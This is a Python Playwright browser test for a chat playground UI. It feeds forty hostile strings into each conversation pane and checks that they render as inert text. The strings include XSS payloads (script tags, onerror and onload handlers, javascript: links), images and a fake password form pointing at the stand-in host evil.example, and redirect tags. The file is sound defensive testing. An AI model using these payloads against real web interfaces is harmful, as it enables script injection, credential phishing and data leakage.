"""Forty hostile texts in each of the six places where a conversation is shown: the whole text is
seen, nothing of it becomes an element that acts, and nothing is fetched.

Chat and Functions show a conversation of all forty, as after a reload; Compare is asked five at a
time: each has a word of its own, so that one that hides another is noticed.
"""

import json
import re
from collections.abc import Iterator, Mapping, Sequence
from contextlib import suppress

import gradio as gr
import pytest
from playwright.sync_api import BrowserContext, Page, expect
from playwright.sync_api import TimeoutError as PlaywrightTimeoutError

from playground.protocol import Message
from playground.ui.components.messages import History, turn
from playground.ui.functions.timeline import Timeline, to_text
from tests.playground.ui.browser.conftest import opened_by

pytestmark = [pytest.mark.browser, pytest.mark.slow]
EVIL = "https://evil.example"
AFTER = re.compile(r"after\d*")
GROUP = 5
HOSTILE = (
    "<script>window.ran = 1</script> after",
    "<img src=x onerror='window.ran = 1'> after",
    f"<img src={EVIL}/a.png> after",
    f"![alt]({EVIL}/b.png?leak=1) after",
    f"![alt][ref] after\n\n[ref]: {EVIL}/c.png",
    f"[![inner]({EVIL}/d.png)](#) after",
    f"<video autoplay src={EVIL}/v.mp4></video> after",
    f"<audio autoplay src={EVIL}/a.mp3></audio> after",
    f"<picture><source srcset={EVIL}/s.webp></picture> after",
    f"<iframe src={EVIL}></iframe> after",
    f"<object data={EVIL}></object><embed src={EVIL}> after",
    f"<link rel=stylesheet href={EVIL}/x.css> after",
    f"<style>body {{ background: url({EVIL}/y.png) }}</style> after",
    f"<div style='background:url({EVIL}/z.png)'>inner</div> after",
    "<div style='position:fixed;inset:0;background:red;z-index:9999'>overlay</div> after",
    f"<form action={EVIL}><input type=password><button>Log in</button></form> after",
    "<button onclick='window.ran = 1'>press</button> after",
    "<details open ontoggle='window.ran = 1'>details</details> after",
    "<svg onload='window.ran = 1'><circle r=9 /></svg> after",
    "<math><mtext><img src=x onerror='window.ran = 1'></mtext></math> after",
    "<a href='javascript:window.ran = 1'>link</a> after",
    "[link](javascript:window.ran=1) after",
    "<base href=https://evil.example> after",
    "<meta http-equiv=refresh content='0;url=https://evil.example'> after",
    "<marquee><blink>text</blink></marquee> after",
    "<!-- comment --> after <!-- open",
    "<![CDATA[ data ]]> after",
    "<?php echo 1 ?> after",
    "</div></span></body></html> after",
    "<textarea><title><plaintext> after",
    "List<String> names = new ArrayList<String>(); after",
    "if a < b and c > d then x<y and y>z after",
    "&lt;b&gt; &amp;amp; &#60;i&#62; after",
    "```html\n<img src=x onerror='window.ran = 1'>\n```\nafter",
    "```\nunclosed <b>fence",
    "$$\\href{javascript:window.ran=1}{x}$$ and $<b>$ after",
    "```mermaid\ngraph TD; A[\"<img src=x onerror='window.ran = 1'>\"] --> B\n```\nafter",
    "\u202eright to left override\u202c after",
    "שלום עולם. مرحبا <b>bold</b>",
    "A" * 100_000 + " after",
)
TEXTS = tuple(text.replace("after", f"after{number}") for number, text in enumerate(HOSTILE))
ACTIVE = (
    "script, img, video, audio, source, iframe, object, embed, link, style:not(svg *), "
    "form, base, meta"
)
SEEN = """([places, active]) => places.map(place =>
  [...document.querySelectorAll(place)].map(e => ({
    text: e.innerText,
    acts: [...e.querySelectorAll('*')].filter(inner => inner.matches(active)
        || getComputedStyle(inner).position === 'fixed' || inner.hasAttribute('onclick')
        || /^javascript:/i.test(inner.getAttribute('href') || '')).length,
})))"""
KEEP = """kept => Object.entries(kept).forEach(([name, values]) =>
    sessionStorage.setItem(`mistral-playground.kept.${name}`, values))"""
MARK_OLD = """() => document.querySelectorAll('#cmp-text-a .md *, #cmp-text-b .md *')
    .forEach(element => { element.dataset.old = 'yes'; })"""
WHOLE = """([asked, all]) => !document.querySelector('.md [data-old]')
    && document.querySelector('#cmp-asked')?.innerText.trim() === asked
    && ['a', 'b'].map(lane => document.querySelector(`#cmp-text-${lane}`).innerText
        .replace(/[^\\p{L}\\p{N}]+/gu, ''))
        .every(answer => all.every(wanted => answer.includes(wanted)))"""
HARMLESS = "whole, inert"
Shown = Mapping[str, str | int]


def words(text: str) -> str:
    """What of a text must be seen whatever Markdown does to the rest: letters and digits."""
    return re.sub(r"[\W_]+", "", text)


def judge_question(shown: Shown, text: str) -> str:
    """Say how a text is shown that must be seen character by character."""
    if shown["acts"]:
        return "acts"
    return HARMLESS if str(shown["text"]).strip() == text.strip() else f"shown as {shown['text']}"


def wanted_of(text: str) -> str:
    """What of an answer must be seen once its Markdown is drawn, as `words` gives it."""
    if "mermaid" in text or "$$" in text:  # drawn as a picture
        return ""
    # A definition of a link, and the address of one, are not drawn; nor is a fence's language.
    has_address = "](" in text or "[ref]" in text
    ending = AFTER.search(text)
    if has_address and "<" not in text and ending:
        return ending.group()
    return words(re.sub(r"```\w*", "", text))


def judge_answer(shown: Shown, text: str) -> str:
    """Say how a text is shown whose Markdown is drawn."""
    if shown["acts"]:
        return "acts"
    seen = str(shown["text"])
    return HARMLESS if wanted_of(text) in words(seen) else f"shown as {seen[:80]}"


def conversation() -> tuple[History, Timeline]:
    """All texts, each said by the user and by the model."""
    turns = [turn(role, text) for text in TEXTS for role in ("user", "assistant")]
    messages = [Message(role, text) for text in TEXTS for role in ("user", "assistant")]
    return turns, Timeline(tuple(messages))


@pytest.fixture(scope="module")
def hostile(regular: BrowserContext, echo_url: str) -> Iterator[Page]:
    """The page, opened where these conversations are kept already."""
    turns, timeline = conversation()
    history = gr.Chatbot().postprocess(turns).model_dump()  # as the browser gets it
    kept = {"chat": {"history": history}, "functions": {"timeline": to_text(timeline)}}
    values = {name: json.dumps(values) for name, values in kept.items()}
    with opened_by(regular, echo_url, before=f"({KEEP})({json.dumps(values)})") as page:
        yield page


def judged(page: Page, asked: str, answered: str) -> tuple[Sequence[str], Sequence[str]]:
    """Say of each text how the two places show it."""
    expect(page.locator(asked)).to_have_count(len(TEXTS))
    expect(page.locator(answered)).to_have_count(len(TEXTS))
    questions, answers = page.evaluate(SEEN, [[asked, answered], ACTIVE])
    return (
        [judge_question(shown, text) for shown, text in zip(questions, TEXTS, strict=True)],
        [judge_answer(shown, text) for shown, text in zip(answers, TEXTS, strict=True)],
    )


def judged_in_compare(page: Page, texts: Sequence[str]) -> list[tuple[str, str]]:
    """Ask them in one message; say of each how question and answers are shown."""
    question = "\n\n".join(texts)
    page.evaluate(MARK_OLD)
    page.fill("#cmp-question textarea", question)
    page.press("#cmp-question textarea", "Enter")
    with suppress(PlaywrightTimeoutError):  # then the table says what is shown instead
        wanted = [question.strip(), [wanted_of(text) for text in texts]]
        page.wait_for_function(WHOLE, arg=wanted, timeout=60_000, polling=100)
    [asked], [one], [other] = page.evaluate(
        SEEN, [["#cmp-asked .question", "#cmp-text-a", "#cmp-text-b"], ACTIVE]
    )
    said = judge_question(asked, question)
    answers = [{judge_answer(shown, text) for shown in (one, other)} for text in texts]
    return [(said, " / ".join(sorted(each))) for each in answers]


def test_hostile_texts_are_only_texts_everywhere(hostile: Page) -> None:
    places: dict[str, Sequence[str]] = {}
    places["Chat, user"], places["Chat, model"] = judged(
        hostile, "#chat .user .prose", "#chat .bot .prose"
    )
    hostile.get_by_role("tab", name="Functions", exact=True).click()
    places["Functions, user"], places["Functions, model"] = judged(
        hostile, "#fn-chat .user .prose", "#fn-chat .bot .prose"
    )
    hostile.get_by_role("tab", name="Compare", exact=True).click()
    groups = [TEXTS[start : start + GROUP] for start in range(0, len(TEXTS), GROUP)]
    compared = [judged for group in groups for judged in judged_in_compare(hostile, group)]
    places["Compare, question"], places["Compare, answers"] = zip(*compared, strict=True)
    table = {
        text[:60]: dict(zip(places, row, strict=True))
        for text, row in zip(TEXTS, zip(*places.values(), strict=True), strict=True)
    }
    print(json.dumps(table, indent=1, ensure_ascii=False))
    assert table == {text[:60]: dict.fromkeys(places, HARMLESS) for text in TEXTS}
    assert not hostile.evaluate("window.ran")
